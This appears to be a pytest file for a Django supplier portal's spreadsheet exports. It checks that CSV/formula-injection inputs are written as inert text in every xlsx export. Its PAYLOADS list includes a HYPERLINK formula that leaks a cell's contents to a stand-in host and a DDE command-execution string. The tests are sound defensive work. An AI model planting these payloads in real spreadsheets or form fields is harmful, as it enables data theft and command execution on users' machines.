"""Spreadsheet exports are formula-safe (DESIGN §12, CSV/formula injection): text that a
spreadsheet program would run — '=HYPERLINK(…)', '+1', '-1', '@SUM(…)', '\\t=…', '\\r=…' — is
written as text in every xlsx export, whoever typed it."""

from __future__ import annotations

import io
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from portal.core.xlsx import FORMULA_PREFIXES, safe_cell, table_xlsx
from tests.access import MINI_TEMPLATE, _checklist, _finding
from tests.conftest import client_for

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
ROOT = Path(__file__).resolve().parents[2]
# Every module that builds a workbook, and the test below that proves it formula-safe.
EXPORTERS = {
    "portal/core/xlsx.py",
    "questionnaires/xlsx_export.py",
    "questionnaires/assessment_xlsx.py",
    "questionnaires/decision_views.py",
    "contracts/exports.py",
}


def cells(data: bytes) -> list:
    """Every cell of every sheet, asserting that none is a formula or starts like one."""
    wb = load_workbook(io.BytesIO(data))
    found = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.lstrip(" ").startswith(FORMULA_PREFIXES), (
                        f"{ws.title}!{cell.coordinate} starts like a formula: {cell.value!r}"
                    )
                found.append(cell.value)
    return found


def neutralised(values: list, payload: str) -> bool:
    """The payload is in the sheet as text: behind an apostrophe, never bare."""
    core = payload.strip()
    return any(
        isinstance(v, str) and v.startswith("'") and v.strip().endswith(core) for v in values
    )


def test_every_workbook_builder_is_covered_here():
    builders = {
        str(p.relative_to(ROOT))
        for app in ("portal", "suppliers", "questionnaires", "contracts")
        for p in (ROOT / app).rglob("*.py")
        if "migrations" not in p.parts and re.search(r"\bWorkbook\(\)", p.read_text())
    }
    assert builders == EXPORTERS


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises(payload):
    assert safe_cell(payload) == "'" + payload
    assert safe_cell(-1) == -1 and safe_cell("Beleid - versie 2") == "Beleid - versie 2"


def test_table_export_is_formula_safe():
    data = table_xlsx("=Lijst", ["=kop", "waarde"], [[p, -1] for p in PAYLOADS])
    values = cells(data)
    assert all(neutralised(values, p) for p in PAYLOADS)
    assert -1 in values  # numbers stay numbers


def _template_with_payloads() -> dict:
    questions = [
        {
            **MINI_TEMPLATE["sections"][0]["questions"][0],
            "code": f"T-{i}",
            "type": "text",
            "text": {"nl": p, "en": p},
            "advice": {"nl": p, "en": p},
            "references": [],
        }
        for i, p in enumerate(PAYLOADS, start=1)
    ]
    return {
        **MINI_TEMPLATE,
        "key": "formules",
        "title": {"nl": PAYLOADS[0], "en": PAYLOADS[0]},
        "sections": [{"code": "A", "title": {"nl": "@SUM(1)", "en": "+1"}, "questions": questions}],
    }


def test_questionnaire_and_answer_sheet_exports_are_formula_safe(cast):
    from questionnaires import assessments as svc
    from questionnaires.services import template_import
    from tests.access import _relationship

    template = template_import(data=_template_with_payloads(), owner=cast.hospital, publish=True)
    r = client_for(cast.ciso).get(
        reverse("questionnaire_export", kwargs={"pk": template.pk}) + "?format=xlsx"
    )
    assert r.status_code == 200
    values = cells(r.content)
    # Texts are stored stripped, so "\t=1+1" arrives as "=1+1": neutralised all the same.
    assert all(neutralised(values, p) for p in PAYLOADS)

    rel = _relationship(cast)["relationship"]
    a = svc.assessment_create(
        relationship=rel, template=template, due_date=None, actor=cast.procurement.user
    )
    svc.assessment_send(assessment=a, actor=cast.procurement.user)
    for i, p in enumerate(PAYLOADS, start=1):
        svc.answer_save(
            assessment=a, code=f"T-{i}", value=p, explanation=p, actor=cast.supplier_owner.user
        )
    r = client_for(cast.supplier_owner).get(
        reverse("assessment_xlsx_download", kwargs={"pk": a.pk})
    )
    assert r.status_code == 200
    values = cells(r.content)
    assert all(neutralised(values, p) for p in PAYLOADS)


def test_decision_register_export_is_formula_safe(cast):
    from questionnaires.decisions import decision_propose

    world = _finding(cast)
    decision_propose(
        relationship=world["relationship"],
        finding=world["finding"],
        actor=cast.ciso.user,
        motivation=PAYLOADS[0],
        expires_on=timezone.localdate() + timedelta(days=90),
    )
    decision_propose(
        relationship=world["relationship"],
        actor=cast.ciso.user,
        motivation=PAYLOADS[-1],
        expires_on=timezone.localdate() + timedelta(days=90),
    )
    r = client_for(cast.ciso).get(reverse("decision_register_xlsx"))
    assert r.status_code == 200
    values = cells(r.content)
    assert neutralised(values, PAYLOADS[0]) and neutralised(values, PAYLOADS[-1])


def test_clause_checklist_export_is_formula_safe(cast):
    from contracts.checklist import checklist_item_update

    world = _checklist(cast)
    checklist_item_update(
        item=world["item"],
        actor=cast.procurement.user,
        status="waived",
        article="@SUM(A1:A9)",
        motivation=PAYLOADS[0],
    )
    r = client_for(cast.ciso).get(
        reverse("checklist_xlsx", kwargs={"pk": world["relationship"].pk})
    )
    assert r.status_code == 200
    values = cells(r.content)
    assert neutralised(values, PAYLOADS[0]) and neutralised(values, "@SUM(A1:A9)")
